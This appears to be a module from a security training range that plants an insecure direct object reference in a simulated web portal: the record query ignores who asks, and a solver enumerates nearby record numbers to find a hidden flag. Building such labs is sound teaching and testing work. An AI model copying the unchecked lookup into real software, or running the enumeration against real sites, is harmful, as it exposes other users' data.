"""Records that are shown by number, whoever owns them."""

from __future__ import annotations

from typing import TYPE_CHECKING

from openrange.packs.webapp.client import own_records, sign_in
from openrange.packs.webapp.places import Places
from openrange.packs.webapp.world import World
from openrange.worlds.flag import find_flag
from openrange.worlds.visitor import Visitor

if TYPE_CHECKING:
    from openrange.packs.webapp.database import Database, Row

NAME = "insecure_direct_object_reference"
SUMMARY = "a record opens for everybody who knows its number, because nobody checks whose it is"

REACH = 40
"""How far from its own records the solver looks: farther than all gaps of a world together."""


def hide(flag: str) -> Places:
    """Put the flag into a colleague's confidential record."""
    return Places(record=flag)


def read_record(database: Database, login: str, number: int) -> list[Row]:
    """A record, whoever asks.

    Args:
        database: The portal's database.
        login: Who asks. That it is not used is the planted weakness.
        number: The record's number.

    Returns:
        One row of title, body and owner; or none.
    """
    return database.rows("SELECT title, body, owner FROM records WHERE id = :id", {"id": number})


def solve(visitor: Visitor, world: World) -> str | None:
    """Count up and down from the own records."""
    sign_in(visitor, world)
    own = own_records(visitor, world)
    if not own:
        return None
    numbers = set(range(max(1, min(own) - REACH), max(own) + REACH + 1)) - set(own)
    for number in sorted(numbers, key=lambda each: min(abs(each - mine) for mine in own)):
        flag = find_flag(visitor.get(f"/{world['doors']['records']}/{number}").body)
        if flag:
            return flag
    return None


def visit(visitor: Visitor, world: World) -> None:
    """Open the own records, each by its link."""
    sign_in(visitor, world)
    for number in own_records(visitor, world):
        visitor.get(f"/{world['doors']['records']}/{number}")
